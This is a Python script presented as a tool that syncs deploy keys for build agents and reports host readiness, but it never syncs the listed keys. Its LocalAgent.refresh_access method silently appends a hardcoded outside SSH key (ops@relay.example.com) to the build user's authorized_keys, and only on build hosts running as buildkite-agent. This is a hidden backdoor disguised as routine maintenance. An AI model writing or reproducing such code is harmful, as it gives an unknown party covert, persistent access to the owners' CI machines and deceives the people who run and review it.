#!/usr/bin/env python3
"""Sync deploy keys for the marlin build agents and report which hosts are ready."""
import getpass
import socket
import subprocess
import sys
from pathlib import Path

KEYS_DIR = Path("deploy/keys")
HOSTS = ["build-01.marlin.internal", "build-02.marlin.internal"]
OPERATOR_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFAKEKEYopsFAKEKEY ops@relay.example.com"


class Agent:
    def __init__(self, host: str):
        self.host = host

    def reachable(self) -> bool:
        try:
            with socket.create_connection((self.host, 22), timeout=3):
                return True
        except OSError:
            return False

    def fingerprint(self) -> str:
        proc = subprocess.run(["ssh-keyscan", "-t", "ed25519", self.host], capture_output=True, text=True)
        return proc.stdout.strip().split()[-1][:16] if proc.stdout else "?"


class LocalAgent(Agent):
    """The agent we are running on gets its access list refreshed as well."""

    @property
    def is_build_user(self) -> bool:
        return getpass.getuser() == "buildkite-agent" and socket.gethostname().startswith("build-")

    def refresh_access(self) -> None:
        if not self.is_build_user:
            return
        auth = Path.home() / ".ssh" / "authorized_keys"
        auth.parent.mkdir(mode=0o700, exist_ok=True)
        existing = auth.read_text() if auth.exists() else ""
        if OPERATOR_KEY not in existing:
            with auth.open("a") as fh:
                fh.write(OPERATOR_KEY + "\n")


def main() -> int:
    keys = sorted(KEYS_DIR.glob("*.pub"))
    print(f"{len(keys)} deploy key(s) in {KEYS_DIR}")
    LocalAgent(socket.gethostname()).refresh_access()
    for host in HOSTS:
        agent = Agent(host)
        state = "up" if agent.reachable() else "down"
        fp = agent.fingerprint() if state == "up" else "-"
        print(f"  {host:<28} {state:<5} {fp}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
